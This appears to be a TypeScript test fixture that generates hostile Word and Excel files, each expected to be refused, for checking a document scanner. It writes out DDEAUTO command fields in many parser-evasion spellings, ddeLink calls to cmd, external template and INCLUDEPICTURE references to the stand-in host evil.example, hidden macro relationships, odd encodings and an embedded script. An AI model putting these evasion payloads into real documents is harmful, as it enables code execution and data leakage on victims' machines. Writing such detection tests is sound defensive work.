// Fields, links, and parts of Office documents in spellings that an XML parser reads and a text search misses.

import { toBytes } from '../../support/file-writers/bytes.ts';
import type { HostileFile } from './hostile-file.ts';
import {
  listDocxParts,
  listXlsxParts,
  toRelationship,
  toRelationships,
  withPart,
} from '../../support/file-writers/office-writer.ts';
import { writeZip } from '../../support/file-writers/zip-writer.ts';

const docx = listDocxParts();
const xlsx = listXlsxParts();
const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const program = String.raw`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`;
const outside = toRelationship(
  'attachedTemplate',
  'Target="https://evil.example/a.dotm" TargetMode="External"',
);

/** The content of a paragraph. */
const fields: readonly (readonly [string, string])[] = [
  ['a program', `<w:instrText>${program}</w:instrText>`],
  ['a program in an attribute', `<w:fldSimple w:instr="${program.replaceAll('"', '&quot;')}"/>`],
  ['a program in an attribute with blanks', `<w:fldSimple w:instr  =\n  '${program}'/>`],
  [
    'a program in capitals and not',
    `<w:instrText>${program.replace('DDEAUTO', 'dDeAuTo')}</w:instrText>`,
  ],
  [
    'a program in pieces',
    `<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\a.exe</w:instrText></w:r>`,
  ],
  ['a program by numbers', `<w:instrText>${program.replace('D', '&#68;')}</w:instrText>`],
  [
    'a program around a comment',
    `<w:instrText>${program.replace('DDE', 'DD<!-- -->E')}</w:instrText>`,
  ],
  [
    'a program around an instruction',
    `<w:instrText>${program.replace('DDE', 'DD<?a?>E')}</w:instrText>`,
  ],
  ['a program in raw text', `<w:instrText><![CDATA[${program}]]></w:instrText>`],
  [
    'a program under another prefix',
    `<${'a'.repeat(60)}:instrText xmlns:${'a'.repeat(60)}="${word}">${program}</${'a'.repeat(60)}:instrText>`,
  ],
  ['a program under no prefix', `<instrText xmlns="${word}">${program}</instrText>`],
  ['a link', '<w:instrText>LINK Word.Document.8 "https://evil.example/a.doc" "" \\a</w:instrText>'],
  ['a text from outside', '<w:instrText>INCLUDETEXT "https://evil.example/a.docx"</w:instrText>'],
  [
    'a picture from outside',
    '<w:instrText>INCLUDEPICTURE "https://evil.example/a.png" \\d</w:instrText>',
  ],
  [
    'a picture from outside by its old name',
    '<w:instrText>IMPORT "https://evil.example/a.png"</w:instrText>',
  ],
  [
    'a picture from a share',
    '<w:instrText>INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png"</w:instrText>',
  ],
];

export const officeFields: readonly HostileFile[] = [
  ...fields.map(([name, field]) =>
    toAttack(`a field with ${name}`, 'docx', () =>
      writeZip(
        withPart(docx, {
          name: 'word/document.xml',
          data: `<?xml version="1.0"?><w:document xmlns:w="${word}"><w:body><w:p>${field}</w:p></w:body></w:document>`,
        }),
      ),
    ),
  ),
  toAttack('relationships in EBCDIC', 'docx', () =>
    writeZip(
      withRelationships(toEbcdic(toRelationships(outside).replace('UTF-8', 'ebcdic-cp-us'))),
    ),
  ),
  toAttack('relationships that name their encoding late', 'docx', () =>
    writeZip(
      withRelationships(
        toBytes(
          toRelationships('').replace(' encoding="UTF-8"', `${' '.repeat(400)}encoding="utf-7"`),
        ),
      ),
    ),
  ),
  toAttack('relationships with a prefix', 'docx', () =>
    writeZip(
      withRelationships(
        toBytes(
          toRelationships(outside)
            .replaceAll('Relationship', 'r:Relationship')
            .replace('xmlns=', 'xmlns:r='),
        ),
      ),
    ),
  ),
  toAttack('relationships in capitals', 'docx', () =>
    writeZip([...docx, { name: 'WORD/_RELS/SETTINGS.XML.RELS', data: toRelationships(outside) }]),
  ),
  toAttack('a link to a program in a part of another name', 'xlsx', () =>
    writeZip([
      ...xlsx.filter(({ name }) => name !== 'xl/_rels/workbook.xml.rels'),
      {
        name: 'xl/_rels/workbook.xml.rels',
        data: toRelationships(toRelationship('externalLink', 'Target="other/a.xml"')),
      },
      {
        name: 'xl/other/a.xml',
        data: '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      },
    ]),
  ),
  toAttack('a link to a program under a long prefix', 'xlsx', () =>
    writeZip([
      ...xlsx,
      {
        name: 'xl/externalLinks/externalLink1.xml',
        data: `<a/><${'a'.repeat(80)}:ddeLink ddeService="cmd" ddeTopic="/c calc"/>`,
      },
    ]),
  ),
  toAttack('macros in a part of another name', 'docx', () =>
    writeZip([
      ...withRelationships(
        toBytes(
          toRelationships(
            '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.xml"/>',
          ),
        ),
      ),
      { name: 'word/a.xml', data: '<a/>' },
    ]),
  ),
  toAttack('a page taken in', 'docx', () =>
    writeZip([
      ...withRelationships(toBytes(toRelationships(toRelationship('aFChunk', 'Target="a.xml"')))),
      { name: 'word/a.xml', data: '<html><script>alert(1)</script></html>' },
    ]),
  ),
];

function withRelationships(data: Uint8Array): ReturnType<typeof listDocxParts> {
  return withPart(docx, { name: 'word/_rels/settings.xml.rels', data });
}

/** Code page 37, for the characters of these parts. */
function toEbcdic(text: string): Buffer {
  const ascii =
    ' <(+|&!$*);-/,%_>?:#@\'="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.\n';
  const codes =
    '404c4d4e4f505a5b5c5d5e60616b6c6d6e6f7a7b7c7d7e7f818283848586878889919293949596979899a2a3a4a5a6a7a8a9c1c2c3c4c5c6c7c8c9d1d2d3d4d5d6d7d8d9e2e3e4e5e6e7e8e9f0f1f2f3f4f5f6f7f8f94b25';
  const table = Buffer.from(codes, 'hex');
  return Buffer.from(Array.from(text, (character) => table[ascii.indexOf(character)] ?? 0x40));
}

function toAttack(name: string, extension: string, make: () => Uint8Array): HostileFile {
  return {
    group: 'office document',
    name: `${extension} with ${name}`,
    extension,
    expected: 'refused',
    make,
  };
}
